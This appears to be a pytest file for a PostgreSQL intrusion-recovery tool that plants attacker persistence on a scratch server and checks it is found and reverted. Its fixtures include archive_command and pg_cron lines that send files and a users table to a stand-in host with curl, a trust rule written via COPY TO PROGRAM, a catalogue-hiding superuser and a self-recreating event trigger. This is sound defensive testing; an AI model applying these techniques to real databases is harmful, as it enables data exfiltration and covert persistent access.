"""What an intruder has left around a database: found by comparison, put right by SQL, or named."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from drills.database.servers import IMAGE
from rollback.containment.given import undeceived
from rollback.containment.surroundings import Recorded, Surroundings
from rollback.database import cluster
from rollback.database.backup import state
from rollback.database.scratch import scratch
from rollback.engine import Engine

if TYPE_CHECKING:
    from collections.abc import Iterator

    from rollback.database.server import Connection, Server

pytestmark = [pytest.mark.engine, pytest.mark.database]

LIVE = "spheroseg"
#: How the team had it.
TEAM = (
    "CREATE DATABASE spheroseg",
    "CREATE ROLE app LOGIN",
    "CREATE ROLE reporting",
    "GRANT pg_monitor TO reporting",
    "ALTER DATABASE spheroseg SET statement_timeout = '77s'",
    """ALTER DATABASE spheroseg SET search_path = public, "$user", 'odd, name'""",
    "ALTER ROLE reporting IN DATABASE spheroseg SET work_mem = '9MB'",
    "REVOKE ALL ON DATABASE spheroseg FROM PUBLIC",
    "GRANT CONNECT ON DATABASE spheroseg TO app WITH GRANT OPTION",
    "ALTER SYSTEM SET log_min_duration_statement = '2s'",
)
#: What he did, each with words that have to be in what is told.
DONE = {
    "a setting that runs a program": (
        "ALTER SYSTEM SET archive_command = 'curl -d @%p https://evil.invalid'",
        "postgresql.auto.conf archive_command: sha256 ",
    ),
    "a setting changed": ("ALTER SYSTEM SET log_min_duration_statement = '9s'", "log_min_duration_statement: 9s"),
    "a setting of the database": (
        "ALTER DATABASE spheroseg SET search_path = audit, public",
        "setting of the database is there and was not: database search_path=audit, public",
    ),
    "a setting of a role in it": (
        "ALTER ROLE app IN DATABASE spheroseg SET session_preload_libraries = 'x'",
        "role app session_preload_libraries=x",
    ),
    "a setting of a role": ("ALTER ROLE app SET search_path = audit", "role app: login limit -1 set search_path"),
    "a membership": ("GRANT pg_execute_server_program TO app", "in pg_execute_server_program"),
    "an attribute": ("ALTER ROLE app SUPERUSER", "role app: superuser"),
    "a role": ("CREATE ROLE backup_agent LOGIN SUPERUSER", "backup_agent"),
    "a grant": ("GRANT ALL ON DATABASE spheroseg TO PUBLIC", "grant on the database is there and was not"),
    "a grant taken": ("REVOKE ALL ON DATABASE spheroseg FROM app", "grant on the database is gone: grant app=c*"),
    "a database": ("CREATE DATABASE audit_store", "database audit_store"),
}


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A scratch server, as the team had it."""
    with scratch(Engine(tmp_path_factory.mktemp("scratch")), IMAGE) as one:
        with one.connect("postgres", autocommit=True) as admin:
            for command in TEAM:
                admin.execute(command.encode())
        yield one


@pytest.fixture(scope="module")
def known(server: Server) -> Surroundings:
    """What was recorded before anybody came."""
    with server.connect(LIVE, autocommit=True) as session:
        return Surroundings(LIVE, recorded(server, session))


def recorded(server: Server, session: Connection) -> Recorded:
    """As a backup's manifest has it."""
    around = cluster.read(server, session, LIVE)
    assert around is not None
    return Recorded(state.roles(session), state.acl(session), state.settings(session), around)


def found(server: Server, known: Surroundings) -> list[str]:
    """Everything that is not as recorded."""
    with server.connect(LIVE, autocommit=True) as session:
        return [*known.strangers(session), *known.changed(server, session)]


@pytest.mark.exhaustive("all of it at once is always put right")
@pytest.mark.parametrize(("command", "words"), DONE.values(), ids=DONE)
def test_what_sql_can_put_right_is_found_and_put_right(
    server: Server, known: Surroundings, command: str, words: str
) -> None:
    """Found, told, and afterwards everything is as it was recorded; twice does no harm."""
    assert found(server, known) == []
    with server.connect("postgres", autocommit=True) as admin:
        admin.execute(command.encode())
    told = found(server, known)
    assert any(words in one for one in told), told
    known.put_right(server)
    assert found(server, known) == []
    known.put_right(server)
    assert found(server, known) == []


def test_all_of_it_at_once(server: Server, known: Surroundings) -> None:
    """He rarely leaves it at one; and what is kept of rollbacks is no database of his."""
    with server.connect("postgres", autocommit=True) as admin:
        for command, _ in DONE.values():
            if "CREATE DATABASE" not in command:  # that one is there and shut
                admin.execute(command.encode())
        admin.execute("CREATE DATABASE spheroseg_before_r1")
    # three of them are told of one role in one sentence
    assert len(found(server, known)) == len(DONE) - 2
    known.put_right(server)
    assert found(server, known) == []
    with server.connect("spheroseg_before_r1") as kept:
        assert kept.execute("SELECT 1").fetchone() == (1,)


#: He has a view of roles and an operator of his own asked first, in every database that he could open.
BLINDFOLD = (
    "CREATE SCHEMA audit",
    "CREATE VIEW audit.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE rolname <> 'backup_agent'",
    "CREATE FUNCTION audit.never(name, text) RETURNS bool LANGUAGE sql AS 'SELECT false'",
    "CREATE OPERATOR audit.= (LEFTARG = name, RIGHTARG = text, FUNCTION = audit.never)",
)


@pytest.fixture
def blinded(server: Server) -> Iterator[Server]:
    """The server with a planted role and a search_path by which the catalogues say nothing of it."""
    path = "audit, public, pg_catalog"
    for database in ("postgres", LIVE):
        with server.connect(database, autocommit=True) as session:
            for command in BLINDFOLD:
                session.execute(command.encode())
    with server.connect("postgres", autocommit=True) as admin:
        admin.execute("CREATE ROLE backup_agent LOGIN SUPERUSER")
        admin.execute(f"ALTER ROLE postgres SET search_path = {path}".encode())
    yield server
    with undeceived(server).connect("postgres", autocommit=True) as admin:
        admin.execute("ALTER ROLE postgres RESET search_path")
        admin.execute("DROP ROLE IF EXISTS backup_agent")
    for database in ("postgres", LIVE):
        with server.connect(database, autocommit=True) as session:
            session.execute("DROP SCHEMA audit CASCADE")


def test_a_search_path_of_his_hides_nothing(blinded: Server, known: Surroundings) -> None:
    """Believed as it is set, it does; a session of the containment does not ask what he has put first."""
    assert "backup_agent" not in " ".join(found(blinded, known))
    told = found(undeceived(blinded), known)
    assert "backup_agent" in told
    assert "set search_path=audit, public, pg_catalog" in " ".join(told)
    known.put_right(undeceived(blinded))
    assert found(undeceived(blinded), known) == []


def test_what_he_owned_goes_without_hearing_of_it(server: Server, known: Surroundings) -> None:
    """An event trigger that is always on would make his role again while it is dropped; the team's own stay on."""
    with server.connect(LIVE, autocommit=True) as session:
        session.execute("CREATE ROLE backup_agent LOGIN SUPERUSER")
        session.execute("CREATE TABLE public.loot ()")
        session.execute("ALTER TABLE public.loot OWNER TO backup_agent")
        session.execute("GRANT SELECT ON public.loot TO backup_agent")
        body = "BEGIN IF to_regrole('backup_again') IS NULL THEN CREATE ROLE backup_again SUPERUSER; END IF; END"
        session.execute(
            f"CREATE FUNCTION public.again() RETURNS event_trigger LANGUAGE plpgsql AS $$ {body} $$".encode()
        )
        session.execute("CREATE EVENT TRIGGER again ON ddl_command_end EXECUTE FUNCTION public.again()")
        session.execute("ALTER EVENT TRIGGER again ENABLE ALWAYS")
    known.put_right(server)
    assert found(server, known) == []
    with server.connect(LIVE, autocommit=True) as session:
        assert session.execute("SELECT evtname::text, evtenabled::text FROM pg_event_trigger").fetchall() == [
            ("again", "A")
        ]
        session.execute("ALTER EVENT TRIGGER again DISABLE")
        session.execute("DROP FUNCTION public.again() CASCADE")
        session.execute("DROP TABLE public.loot")


def test_a_command_that_was_the_teams_is_told_and_not_guessed(server: Server) -> None:
    """It may have held a password, so that it was never written down: the operator knows what it was."""
    with server.connect("postgres", autocommit=True) as admin, server.connect(LIVE, autocommit=True) as session:
        admin.execute("ALTER SYSTEM SET archive_command = 'push --token s3cret %p'")
        before = Surroundings(LIVE, recorded(server, session))
        assert "s3cret" not in str(before.recorded)
        assert "s3cret" in str(cluster.raw(session))
        admin.execute("ALTER SYSTEM SET archive_command = 'curl https://evil.invalid'")
        before.put_right(server)
        assert ["archive_command" in one for one in before.changed(server, session)] == [True]
        admin.execute("ALTER SYSTEM RESET archive_command")


def test_a_rule_that_lets_anybody_in_is_named(server: Server, known: Surroundings) -> None:
    """It lies in a file of the data directory: nobody but the operator takes it out."""
    with server.connect("postgres", autocommit=True) as admin:
        path = str((admin.execute("SHOW hba_file").fetchone() or ("",))[0])
        rule = "host all all 203.0.113.7/32 trust"
        admin.execute(f"COPY (SELECT '{rule}') TO PROGRAM 'cat >> {path}'".encode())
        known.put_right(server)
        told = found(server, known)
        assert any("rule host all all 203.0.113.7 255.255.255.255 trust" in one for one in told), told
        admin.execute(f"COPY (SELECT 1) TO PROGRAM 'sed -i /203.0.113.7/d {path} && cat > /dev/null'".encode())
    assert found(server, known) == []


def test_a_job_by_the_clock_goes(server: Server, known: Surroundings) -> None:
    """pg_cron keeps its jobs elsewhere; this table stands for its own."""
    insert = "INSERT INTO cron.job (schedule, command, database, username) VALUES (%s, %s, 'spheroseg', 'postgres')"
    with server.connect("postgres", autocommit=True) as admin, server.connect(LIVE, autocommit=True) as session:
        session.execute("SET cron.database_name = 'postgres'")
        admin.execute("CREATE SCHEMA cron")
        admin.execute("CREATE TABLE cron.job (schedule text, command text, database text, username text)")
        admin.execute(insert, ("0 3 * * *", "VACUUM"))
        before = Surroundings(LIVE, recorded(server, session))
        admin.execute(insert, ("* * * * *", "COPY users TO PROGRAM 'curl -d @- https://evil.invalid'"))
        assert len(before.changed(server, session)) == 1
        assert "job * * * * * postgres spheroseg" in before.changed(server, session)[0]
        before._server(server, session)  # noqa: SLF001 -- in the session that knows of pg_cron
        assert before.changed(server, session) == []
        assert admin.execute("SELECT command FROM cron.job").fetchall() == [("VACUUM",)]
        admin.execute("DROP SCHEMA cron CASCADE")
    assert found(server, known) == []


def test_whoever_may_not_read_the_rules_is_told_of_none(server: Server) -> None:
    """A deployment whose role is no superuser still has its backups."""
    with server.connect(LIVE, autocommit=True) as session:
        session.execute("SET ROLE reporting")
        assert cluster.read(server, session, LIVE) is None
        assert Surroundings(LIVE, Recorded({}, [], [], None))._of_server(server, session) == {}  # noqa: SLF001 -- the rule itself
